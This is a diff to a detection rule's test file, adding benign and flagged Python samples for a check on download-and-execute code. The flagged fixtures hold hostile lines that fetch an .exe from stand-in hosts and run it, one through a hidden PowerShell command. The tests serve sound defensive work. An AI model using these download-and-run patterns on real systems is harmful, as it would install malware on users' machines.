@@ -6,6 +6,16 @@ ruleTest(rule, {
     { name: 'requests fetches JSON', file: 'client.py', code: `import requests\nr = requests.get("https://api.github.com/repos/x/y")\ndata = r.json()\nprint(data["name"])\n` },
     { name: 'build script runs git', file: 'build.py', code: `import subprocess\nsubprocess.check_call(["git", "describe", "--tags"])\nsubprocess.run("make -j4", shell=True)\n` },
     { name: 'download saved, never run', file: 'dl.py', code: `import urllib.request\nurllib.request.urlretrieve("https://example.org/data.csv", "data.csv")\nimport csv\nrows = list(csv.reader(open("data.csv")))\n` },
+    {
+      name: 'setuptools package_index: download in one function, git clone in another',
+      file: 'setuptools/package_index.py',
+      code: `import subprocess, urllib.request\ndef _download_url(url, filename):\n    urllib.request.urlretrieve(url, filename)\n    return filename\ndef _download_git(url, filename):\n    subprocess.check_call(["git", "clone", "--quiet", url, filename])\n    return filename\n`,
+    },
+    {
+      name: 'distlib-like: saves an archive, runs unrelated commands',
+      file: 'distlib/util.py',
+      code: `import subprocess\nfrom urllib.request import urlopen\ndef fetch(url, dest):\n    r = urlopen(url)\n    with open(dest, "wb") as f:\n        f.write(r.read())\ndef run_command(cmd):\n    return subprocess.Popen(cmd, stdout=subprocess.PIPE)\n`,
+    },
     { name: 'pip vendored: subprocess + urllib in separate concerns', file: 'pip/_internal/utils/misc.py', code: `from urllib.request import urlopen\nimport subprocess\ndef f(u):\n    return urlopen(u).read()\ndef g(cmd):\n    return subprocess.check_output(cmd)\n` },
   ],
   flagged: [
@@ -44,6 +54,12 @@ ruleTest(rule, {
       file: 'runner.py',
       code: `import subprocess\nCMD = ('$u="http://x.example.net/a.exe"; Invoke-WebRequest $u -OutFile $p; ' 'Start-Process $p -WindowStyle Hidden')\ndef run(c=CMD):\n    return subprocess.Popen(["powershell", "-Command", c])\n`,
       findings: [{ line: 2, message: /download-and-run command in a string/ }],
+    },
+    {
+      name: 'download helper and run helper for an .exe',
+      file: 'tools.py',
+      code: `import requests, subprocess\ndef dl(url, path):\n    r = requests.get(url)\n    with open(path, "wb") as f:\n        f.write(r.content)\ndef run(path):\n    subprocess.Popen(path)\ndl("https://raw.example-host.net/u/pics.exe", "pics.exe")\nrun("pics.exe")\n`,
+      findings: [{ line: 7, severity: 'high', message: /Writes downloaded content to a file and starts a process/ }],
     },
   ],
 });
